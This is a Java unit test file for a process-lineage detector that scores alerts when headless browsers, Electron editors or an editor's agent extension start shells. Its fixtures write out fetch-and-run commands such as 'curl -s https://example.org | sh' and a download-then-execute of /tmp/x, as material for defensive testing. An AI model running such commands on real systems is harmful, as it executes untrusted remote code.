package dev.rubato.detect.spawn;

import static dev.rubato.detect.spawn.ChainStory.MS;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.rubato.alert.Alert;
import dev.rubato.alert.Severity;
import dev.rubato.event.ProcessImage.Stdin;
import dev.rubato.lineage.HostProcess;
import org.junit.jupiter.api.Test;

/** A browser is itself the ancestor of what starts. */
class DirectChainTest {
    private final ChainStory story = new ChainStory();
    private final HostProcess desk = story.terminal();

    @Test
    void aCommandThatAHeadlessBrowserStartsIsReviewedAndHighOnceItGoesOut() {
        HostProcess browser = story.browser(desk, "--headless", "--no-sandbox");
        HostProcess shell = story.spawn(
                browser, Stdin.NULL_DEVICE, "/bin/sh", "-c", "id", "/usr/lib/chromium/chromium", "--type=renderer");
        Alert alert = story.chains().getFirst();
        assertEquals("direct", alert.variant());
        assertEquals(Severity.MEDIUM, alert.severity());
        assertEquals(7.0, alert.score(), 0.05);
        assertEquals(
                "The browser chromium (pid " + browser.key().pid() + ") started /bin/sh -c id "
                        + "/usr/lib/chromium/chromium --type=renderer",
                alert.summary());
        assertTrue(alert.attack().contains("T1203"));
        assertEquals(2, alert.chain().size());

        story.connect(shell, "203.0.113.9", 443);
        story.spawn(shell, Stdin.PIPE, "/usr/bin/curl", "-s", "http://203.0.113.9/");
        story.spawn(shell, Stdin.PIPE, "/bin/sh");
        assertEquals(Severity.HIGH, story.chains().getLast().severity());
        assertEquals(11.5, story.chains().getLast().score(), 0.05);
    }

    @Test
    void aBrowserThatStartsTheSameCommandForEveryRendererRaisesOneAlertAndUpdates() {
        HostProcess browser = story.browser(desk, "--headless", "--no-sandbox");
        for (int i = 0; i < 4; i++) {
            story.spawn(browser, Stdin.NULL_DEVICE, "/bin/sh", "-c", "id", "--type=renderer");
        }
        assertEquals(1, story.chains().stream().map(Alert::id).distinct().count());
        assertEquals(story.chains(), story.alarms());
    }

    @Test
    void aShellBehindHelpersOfTheBrowserIsFound() {
        HostProcess browser = story.browser(desk, "--headless");
        HostProcess helper = story.spawn(browser, Stdin.NULL_DEVICE, "/opt/tools/prefix");
        story.spawn(helper, Stdin.NULL_DEVICE, "/usr/bin/python3", "-c", "print(1)");
        assertEquals(3, story.chains().getFirst().chain().size());
        assertEquals(Severity.MEDIUM, story.chains().getFirst().severity());
    }

    @Test
    void whatAPackagedBrowserDoesWhenItStartsIsNoCandidate() {
        // As Debian's chromium starts, headless: a shell script that looks around and becomes the browser.
        HostProcess launcher = story.spawn(desk, Stdin.TERMINAL, "/bin/sh", "/usr/bin/chromium", "--headless");
        for (String tool : new String[] {"uname", "grep", "find", "expr", "findmnt", "ls", "tr"}) {
            story.spawn(launcher, Stdin.TERMINAL, "/usr/bin/" + tool);
        }
        story.exec(launcher, Stdin.TERMINAL, "/usr/lib/chromium/chromium", "--headless", "--no-sandbox");
        HostProcess crash =
                story.spawn(launcher, Stdin.NULL_DEVICE, "/usr/lib/chromium/chrome_crashpad_handler", "--monitor-self");
        story.spawn(crash, Stdin.NULL_DEVICE, "/usr/lib/chromium/chrome_crashpad_handler", "--no-periodic-tasks");
        story.spawn(launcher, Stdin.NULL_DEVICE, "/usr/lib/chromium/chromium", "--type=zygote");
        story.network(launcher);
        story.pass(2_000 * MS);
        assertTrue(story.chains().isEmpty(), story.chains()::toString);
    }

    @Test
    void aCommandPrefixThatBecomesARendererIsToldAtOnce() {
        HostProcess browser = story.browser(desk, "--headless", "--no-sandbox");
        HostProcess prefix = story.spawn(
                browser, Stdin.NULL_DEVICE, "/bin/sh", "/tmp/x.sh", "/usr/lib/chromium/chromium", "--headless");
        assertEquals(prefix.key().pid(), story.chains().getFirst().subject().pid());
        assertEquals(5.5, story.chains().getFirst().score(), 0.05);
    }

    @Test
    void theScriptsThatABrowserRunsForTheDesktopAreAtMostRecorded() {
        HostProcess browser = story.browser(desk, "https://example.org");
        story.fetch(story.network(browser));
        for (int i = 0; i < 20; i++) {
            HostProcess settings = story.spawn(
                    browser, Stdin.NULL_DEVICE, "/bin/sh", "/usr/bin/xdg-settings", "check", "default-web-browser");
            story.spawn(settings, Stdin.NULL_DEVICE, "/bin/sh", "/usr/bin/xdg-mime", "query", "default");
            HostProcess opener = story.spawn(browser, Stdin.NULL_DEVICE, "/bin/sh", "/usr/bin/xdg-open", "mailto:a@b");
            HostProcess mail = story.spawn(opener, Stdin.NULL_DEVICE, "/usr/bin/thunderbird", "mailto:a@b");
            story.connect(mail, "203.0.113.25", 993);
            story.pass(60_000 * MS);
        }
        assertTrue(story.alarms().isEmpty(), story.alarms()::toString);
        assertEquals(1, story.chains().size());
    }

    @Test
    void aNativeMessagingHostIsAtMostRecorded() {
        HostProcess browser = story.browser(desk);
        story.fetch(story.network(browser));
        story.spawn(browser, Stdin.PIPE, "/usr/bin/python3", "/opt/pass/host.py", "chrome-extension://abcdefgh/");
        assertTrue(story.alarms().isEmpty());
        assertTrue(story.chains().getFirst().evidence().stream()
                .anyMatch(row -> row.name().equals("native-messaging host")));
    }

    @Test
    void argumentsOfANativeMessagingHostDoNotExcuseACommand() {
        HostProcess browser = story.browser(desk, "--headless");
        story.spawn(browser, Stdin.PIPE, "/bin/sh", "-c", "id", "chrome-extension://abcdefgh/");
        assertEquals(Severity.MEDIUM, story.chains().getFirst().severity());
    }

    @Test
    void aTaskOfAnElectronEditorIsAtMostRecorded() {
        HostProcess editor = story.spawn(desk, Stdin.NULL_DEVICE, "/usr/share/code/code");
        HostProcess host = story.spawn(
                editor, Stdin.PIPE, "/usr/share/code/code", "--type=utility", "--utility-sub-type=node.mojom");
        HostProcess shell = story.spawn(host, Stdin.PIPE, "/bin/sh", "-c", "git fetch");
        assertEquals(5.5 - 2, story.chains().getFirst().score(), 0.05);
        story.fetch(story.spawn(shell, Stdin.PIPE, "/usr/lib/git-core/git-remote-https"));
        assertTrue(story.alarms().isEmpty());
    }

    @Test
    void aTerminalInAnEditorsWindowAndWhatIsTypedThereStaySilent() {
        HostProcess editor = story.spawn(desk, Stdin.NULL_DEVICE, "/usr/share/code/code");
        HostProcess host = story.spawn(
                editor, Stdin.PIPE, "/usr/share/code/code", "--type=utility", "--utility-sub-type=node.mojom");
        HostProcess shell = story.terminalIn(host);
        HostProcess python = story.spawn(shell, Stdin.TERMINAL, "/usr/bin/python3", "-c", "import this");
        story.fetch(python);
        story.spawn(shell, Stdin.PIPE, "/bin/sh");
        assertTrue(story.chains().isEmpty(), story.chains()::toString);
    }

    @Test
    void aSessionOfItsOwnBelowTheBrowserHidesNothing() {
        HostProcess browser = story.browser(desk, "--headless", "--no-sandbox");
        HostProcess away = story.fork(browser);
        story.exec(away, Stdin.NULL_DEVICE, away.key().pid(), 0, "/", "/usr/bin/setsid", "sh", "-c", "id");
        story.exec(away, Stdin.NULL_DEVICE, away.key().pid(), 0, "/", "/bin/sh", "-c", "id");
        assertEquals(Severity.MEDIUM, story.chains().getFirst().severity());
    }

    @Test
    void aBrowserThatIsAServiceItselfStartsNoSessionsThatHideItsChildren() {
        HostProcess browser = story.browser(story.init, "--headless", "--no-sandbox");
        HostProcess away = story.fork(browser);
        story.exec(away, Stdin.NULL_DEVICE, away.key().pid(), 0, "/", "/bin/sh", "-c", "id");
        assertEquals(Severity.MEDIUM, story.chains().getFirst().severity());
    }

    @Test
    void anAgentInAnEditorsWindowIsAnActorOfItsOwn() {
        HostProcess editor = story.spawn(desk, Stdin.NULL_DEVICE, "/usr/share/code/code");
        HostProcess host = story.spawn(
                editor, Stdin.PIPE, "/usr/share/code/code", "--type=utility", "--utility-sub-type=node.mojom");
        HostProcess agent = story.spawn(host, Stdin.PIPE, "/home/me/.vscode/extensions/agent/claude");
        for (int i = 0; i < 10; i++) {
            HostProcess shell = story.spawn(agent, Stdin.PIPE, "/bin/bash", "-c", "curl -s https://example.org | sh");
            story.fetch(story.spawn(shell, Stdin.PIPE, "/usr/bin/curl", "-s", "https://example.org"));
            story.spawn(shell, Stdin.PIPE, "/bin/sh");
        }
        assertTrue(story.alarms().isEmpty(), story.alarms()::toString);
    }

    @Test
    void whatIsRecordedFirstAndGrowsIsAnUpdateOfThatRecord() {
        HostProcess editor = story.spawn(desk, Stdin.NULL_DEVICE, "/usr/share/code/code");
        HostProcess host = story.spawn(editor, Stdin.PIPE, "/usr/share/code/code", "--type=renderer");
        HostProcess shell =
                story.spawn(host, Stdin.PIPE, "/bin/sh", "-c", "curl -so /tmp/x https://example.org/x; /tmp/x");
        story.spawn(shell, Stdin.PIPE, "/usr/bin/curl", "-so", "/tmp/x", "https://example.org/x");
        story.spawn(shell, Stdin.PIPE, "/tmp/x");
        assertEquals(Severity.INFO, story.chains().getFirst().severity());
        Alert alarm = story.chains().getLast();
        assertEquals(Severity.MEDIUM, alarm.severity());
        assertEquals(8.0, alarm.score(), 0.05);
        assertEquals(story.chains().getFirst().id(), alarm.id());
        assertEquals(1, alarm.update());
    }
}
